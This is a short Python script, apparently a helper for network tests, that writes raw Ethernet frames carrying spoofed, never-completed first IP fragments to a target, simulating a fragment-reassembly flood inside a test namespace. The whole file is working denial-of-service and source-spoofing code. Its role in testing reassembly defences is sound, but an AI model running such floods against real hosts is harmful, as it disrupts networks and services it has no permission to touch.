"""Spoofed first fragments that never complete, as an attacker on the link sends them.

  fragflood.py IFACE DSTMAC DST COUNT

Writes COUNT Ethernet frames to IFACE (AF_PACKET, inside the test's namespace): each the first
fragment (more-fragments set, 1232 bytes of payload) of a different datagram, from a different
spoofed source address (198.19.x.y, or 2001:db8:f::x for an IPv6 DST), to DST behind DSTMAC.
Prints {"sent": COUNT}. Bounded by COUNT.
"""
import json, socket, struct, sys

def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF

def v4_frame(src_mac, dst_mac, i, dst):
    payload = bytes(1232)
    src = bytes([198, 19, (i >> 8) & 0xFF, i & 0xFF])
    hdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), 0x4000 + i % 0xBFFF, 0x2000, 64, 17, 0, src, socket.inet_aton(dst))
    hdr = hdr[:10] + struct.pack("!H", csum(hdr)) + hdr[12:]
    return dst_mac + src_mac + b"\x08\x00" + hdr + payload

def v6_frame(src_mac, dst_mac, i, dst):
    payload = bytes(1232)
    src = socket.inet_pton(socket.AF_INET6, "2001:db8:f::%x" % (i + 1))
    frag = struct.pack("!BBHI", 17, 0, 1, 0x10000 + i)  # offset 0, M=1
    hdr = struct.pack("!IHBB16s16s", 0x60000000, len(frag) + len(payload), 44, 64, src, socket.inet_pton(socket.AF_INET6, dst))
    return dst_mac + src_mac + b"\x86\xdd" + hdr + frag + payload

def main():
    iface, dst_mac_text, dst, count = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])
    dst_mac = bytes.fromhex(dst_mac_text.replace(":", ""))
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((iface, 0))
    src_mac = s.getsockname()[4]
    make = v6_frame if ":" in dst else v4_frame
    for i in range(count):
        s.send(make(src_mac, dst_mac, i, dst))
    print(json.dumps({"sent": count}), flush=True)

if __name__ == "__main__":
    main()
